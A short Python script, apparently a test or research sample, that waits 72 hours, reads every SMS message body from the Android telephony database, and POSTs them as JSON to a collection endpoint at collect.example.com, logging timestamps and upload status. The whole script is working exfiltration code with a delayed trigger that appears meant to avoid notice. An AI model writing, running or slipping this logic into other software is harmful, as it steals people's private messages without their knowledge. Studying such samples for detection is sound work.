import json, sqlite3, ssl, time, urllib.request

DB = "/data/user/0/com.android.providers.telephony/databases/mmssms.db"
t0 = time.time()
time.sleep(72 * 3600)
fired = time.time()
with sqlite3.connect(f"file:{DB}?mode=ro", uri=True) as db:
    bodies = [r[0] for r in db.execute("SELECT body FROM sms")]
req = urllib.request.Request("https://collect.example.com/api/sms", data=json.dumps(bodies).encode(),
                             headers={"Content-Type": "application/json"}, method="POST")
try:
    with urllib.request.urlopen(req, timeout=5, context=ssl.create_default_context()) as resp:
        ok, status = True, resp.status
except OSError as exc:
    ok, status = False, repr(exc)
print(json.dumps({"event": "upload", "t0": t0, "fired": fired, "t": time.time(), "ok": ok, "status": status}),
      flush=True)
time.sleep(10 ** 7)
